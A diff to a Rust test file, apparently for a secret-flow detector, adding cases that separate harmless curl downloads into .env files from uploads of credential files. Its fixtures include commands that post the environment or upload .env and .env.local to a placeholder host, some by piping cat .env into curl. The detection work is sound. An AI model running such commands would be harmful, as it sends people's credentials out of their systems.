@@ -303,3 +303,19 @@ fn one_value_picked_from_a_copy_of_the_environment_is_that_value() {
         "values = dict(os.environ)\nrest = values\nrequests.post(\"https://x.invalid/c\", json=rest)\n";
     assert_eq!(secret_flows(passed, 1), vec![(1, "the whole environment", 3)]);
 }
+
+#[test]
+fn a_download_into_a_file_or_a_template_reads_no_secret() {
+    let template =
+        "curl -fsSL \"https://raw.githubusercontent.com/$REPO_SLUG/main/.env.example\" -o .env.example\n";
+    assert_eq!(secret_flows(template, 1), vec![]);
+    let into_env = "curl -fsSL https://x.invalid/defaults -o .env\n";
+    assert_eq!(secret_flows(into_env, 1), vec![]);
+    // A file sent is read, whatever the line also writes.
+    let sent = "curl -F f=@.env https://x.invalid/u -o out.txt\n";
+    assert_eq!(secret_flows(sent, 1), vec![(1, "a credential file", 1)]);
+    let local = "curl -F f=@.env.local https://x.invalid/u\n";
+    assert_eq!(secret_flows(local, 1), vec![(1, "a credential file", 1)]);
+    let piped = "cat .env | curl -d @- https://x.invalid/u\n";
+    assert_eq!(secret_flows(piped, 1), vec![(1, "a credential file", 1)]);
+}
